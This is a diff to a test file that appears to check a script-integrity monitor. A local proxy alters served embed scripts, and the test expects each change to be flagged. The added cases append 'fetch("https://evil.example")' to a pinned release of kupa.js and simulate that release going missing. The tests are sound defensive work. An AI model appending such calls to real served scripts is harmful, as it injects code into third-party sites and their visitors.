@@ -7,6 +7,7 @@ import { afterAll, afterEach, beforeAll, expect, test } from 'vitest';
 import { checkInvariants, invariantOf } from '#lib/modules/ledger/index.ts';
 import { readSettings, settings, useSettings } from '#lib/platform/env.ts';
 import { nodeAdapter } from '#lib/platform/http/node-adapter.ts';
+import { publicFiles } from '#lib/platform/http/public-files.ts';
 import type { Job } from '#lib/platform/jobs/jobs.ts';
 import { testDatabase } from '#lib/testing/database.ts';
 import { checkOwnScripts } from './check-own-scripts.ts';
@@ -43,7 +44,7 @@ beforeAll(async () => {
       LOG_LEVEL: 'silent',
     }),
   );
-  const door = nodeAdapter(documents, 'http://localhost:3000');
+  const door = nodeAdapter([...documents, ...publicFiles()], 'http://localhost:3000');
   let address: string;
   [own, address] = await listen(
     (incoming, outgoing) => void (door(incoming, outgoing, '127.0.0.1') || outgoing.writeHead(404).end()),
@@ -52,7 +53,7 @@ beforeAll(async () => {
     const response = await fetch(address + incoming.url);
     const answer = { status: response.status, body: await response.text(), headers: new Headers(response.headers) };
     tampers.get(incoming.url ?? '')?.(answer);
-    answer.headers.delete('content-length');
+    for (const name of ['content-length', 'content-encoding']) answer.headers.delete(name);
     outgoing.writeHead(answer.status, Object.fromEntries(answer.headers)).end(answer.body);
   });
   folder = mkdtempSync(join(tmpdir(), 'scripts-'));
@@ -98,6 +99,18 @@ const TAMPERS: [string, string, Tamper, RegExp][] = [
     '/embed/v1/kupa.js',
     body((was) => `${was};fetch("https://evil.example")`),
     /^\/embed\/v1\/kupa\.js kupa\.js changed$/,
+  ],
+  [
+    'code after a release that shops have pinned',
+    '/embed/1.0.0/kupa.js',
+    body((was) => `${was};fetch("https://evil.example")`),
+    /^\/embed\/1\.0\.0\/kupa\.js changed$/,
+  ],
+  [
+    'a release that is not there any more',
+    '/embed/1.0.0/kupa.js',
+    (answer) => void Object.assign(answer, { status: 404 }),
+    /^\/embed\/1\.0\.0\/kupa\.js changed$/,
   ],
   [
     'code before the frame’s half',
